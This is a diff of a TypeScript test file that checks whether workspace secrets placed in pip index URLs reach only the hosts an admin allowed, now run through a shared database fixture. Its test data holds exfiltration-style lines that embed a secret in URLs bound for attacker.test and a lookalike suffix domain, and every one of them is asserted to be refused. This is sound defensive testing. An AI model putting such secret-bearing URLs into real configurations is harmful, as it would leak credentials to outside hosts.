@@ -2,11 +2,8 @@ import { randomBytes } from "node:crypto";
 import { join } from "node:path";
 import {
   makeTempDir,
-  type PostgresHandle,
-  postgresMissing,
-  skipWithout,
-  startPostgres,
 } from "@mlenv/test-utils";
+import { describeOnEachDatabase } from "@mlenv/test-utils/fixtures";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startWheelTestServer } from "../../test/wheelTestServer";
 import { openStore } from "../server";
@@ -16,84 +13,66 @@ import { secretEnvironment } from "./resolve";
 import { redactionForms } from "./secretPolicy";
 import { openWheelCatalog } from "./sqlCatalog";
 
-const skipPg = skipWithout("postgres", postgresMissing());
 /** `${MLENV_SECRET_<name>}` as written in a pip block. */
 const ref = (name: string) => ["$", `{MLENV_SECRET_${name}}`].join("");
 
-function suite(label: string, skip: boolean, database: () => string | undefined) {
-  describe.skipIf(skip)(`secrets go only to the hosts an admin allowed (${label})`, () => {
-    const dir = makeTempDir("mlenv-secret-hosts-");
-    let store: Store;
-    let catalog: WheelCatalog;
-    let ws: string;
-    beforeAll(async () => {
-      const db = database();
-      store = await openStore({ dataDir: dir.path, ...(db ? { database: db } : {}) });
-      catalog = openWheelCatalog(db ? { postgresUrl: db } : { sqliteFile: join(dir.path, "mlenv.db") });
-      ws = (await store.createWorkspace("corp", new Date().toISOString())).id;
-      await catalog.putSecret({ workspaceId: ws, name: "CORP", value: "s3cret-value-1234", now: "t" });
-      await catalog.setSecretHosts(ws, "CORP", ["pypi.corp.test", "https://mirror.corp.test/simple/"]);
-      await catalog.putSecret({ workspaceId: ws, name: "NOWHERE", value: "other-value-5678", now: "t" });
-    });
-    afterAll(async () => {
-      await catalog?.close();
-      await store?.close();
-      dir.cleanup();
-    });
-    const env = (lines: string[]) => secretEnvironment(lines, { catalog, workspaceId: ws });
-    const code = (p: Promise<unknown>) =>
-      p.then(
-        () => "ok",
-        (e: { code?: string }) => e.code,
-      );
-
-    it("substitutes a secret into an index URL on an allowed host or prefix", async () => {
-      expect(
-        await env([`--extra-index-url https://ci:${ref("CORP")}@pypi.corp.test/simple/`, "x==1"]),
-      ).toEqual({
-        MLENV_SECRET_CORP: "s3cret-value-1234",
-      });
-      expect(await code(env([`--index-url https://ci:${ref("CORP")}@mirror.corp.test/simple/`]))).toBe("ok");
-    });
-
-    it("refuses it for any other host, path or scheme (the writer's exfiltration)", async () => {
-      for (const line of [
-        `--extra-index-url http://ci:${ref("CORP")}@attacker.test/`,
-        `--extra-index-url https://ci:${ref("CORP")}@pypi.corp.test.attacker.test/simple/`,
-        `--index-url https://ci:${ref("CORP")}@mirror.corp.test/other/`,
-        `--extra-index-url ftp://ci:${ref("CORP")}@pypi.corp.test/`,
-        `--extra-index-url https://ci:${ref("NOWHERE")}@pypi.corp.test/simple/`,
-      ]) {
-        expect(await code(env([line])), line).toBe("E_WHEEL_SECRET_NOT_ALLOWED");
-      }
-    });
-
-    it("refuses a secret in a direct requirement URL or any other place", async () => {
-      for (const line of [
-        `corp-lib @ https://ci:${ref("CORP")}@pypi.corp.test/files/corp_lib-1.0-py3-none-any.whl`,
-        `https://pypi.corp.test/corp_lib-1.0-py3-none-any.whl?token=${ref("CORP")}`,
-        `--trusted-host ${ref("CORP")}`,
-      ]) {
-        expect(await code(env([line])), line).toBe("E_WHEEL_SECRET_NOT_ALLOWED");
-      }
-    });
+describeOnEachDatabase("secrets go only to the hosts an admin allowed", "secret_hosts", ({ database }) => {
+  const dir = makeTempDir("mlenv-secret-hosts-");
+  let store: Store;
+  let catalog: WheelCatalog;
+  let ws: string;
+  beforeAll(async () => {
+    const db = database();
+    store = await openStore({ dataDir: dir.path, ...(db ? { database: db } : {}) });
+    catalog = openWheelCatalog(db ? { postgresUrl: db } : { sqliteFile: join(dir.path, "mlenv.db") });
+    ws = (await store.createWorkspace("corp", new Date().toISOString())).id;
+    await catalog.putSecret({ workspaceId: ws, name: "CORP", value: "s3cret-value-1234", now: "t" });
+    await catalog.setSecretHosts(ws, "CORP", ["pypi.corp.test", "https://mirror.corp.test/simple/"]);
+    await catalog.putSecret({ workspaceId: ws, name: "NOWHERE", value: "other-value-5678", now: "t" });
   });
-}
+  afterAll(async () => {
+    await catalog?.close();
+    await store?.close();
+    dir.cleanup();
+  });
+  const env = (lines: string[]) => secretEnvironment(lines, { catalog, workspaceId: ws });
+  const code = (p: Promise<unknown>) =>
+    p.then(
+      () => "ok",
+      (e: { code?: string }) => e.code,
+    );
 
-let pgh: PostgresHandle | undefined;
-let pgUrl: string | undefined;
-beforeAll(async () => {
-  if (!skipPg) {
-    pgh = await startPostgres();
-    pgUrl = pgh.createDatabase("secret_hosts");
-  }
-}, 120_000);
-afterAll(async () => {
-  await pgh?.stop();
+  it("substitutes a secret into an index URL on an allowed host or prefix", async () => {
+    expect(await env([`--extra-index-url https://ci:${ref("CORP")}@pypi.corp.test/simple/`, "x==1"])).toEqual(
+      {
+        MLENV_SECRET_CORP: "s3cret-value-1234",
+      },
+    );
+    expect(await code(env([`--index-url https://ci:${ref("CORP")}@mirror.corp.test/simple/`]))).toBe("ok");
+  });
+
+  it("refuses it for any other host, path or scheme (the writer's exfiltration)", async () => {
+    for (const line of [
+      `--extra-index-url http://ci:${ref("CORP")}@attacker.test/`,
+      `--extra-index-url https://ci:${ref("CORP")}@pypi.corp.test.attacker.test/simple/`,
+      `--index-url https://ci:${ref("CORP")}@mirror.corp.test/other/`,
+      `--extra-index-url ftp://ci:${ref("CORP")}@pypi.corp.test/`,
+      `--extra-index-url https://ci:${ref("NOWHERE")}@pypi.corp.test/simple/`,
+    ]) {
+      expect(await code(env([line])), line).toBe("E_WHEEL_SECRET_NOT_ALLOWED");
+    }
+  });
+
+  it("refuses a secret in a direct requirement URL or any other place", async () => {
+    for (const line of [
+      `corp-lib @ https://ci:${ref("CORP")}@pypi.corp.test/files/corp_lib-1.0-py3-none-any.whl`,
+      `https://pypi.corp.test/corp_lib-1.0-py3-none-any.whl?token=${ref("CORP")}`,
+      `--trusted-host ${ref("CORP")}`,
+    ]) {
+      expect(await code(env([line])), line).toBe("E_WHEEL_SECRET_NOT_ALLOWED");
+    }
+  });
 });
-
-suite("sqlite", false, () => undefined);
-suite("postgres", skipPg, () => pgUrl);
 
 describe("secret allowed hosts over HTTP", () => {
   it("stores them with the secret, lists them, and refuses a malformed entry", async () => {
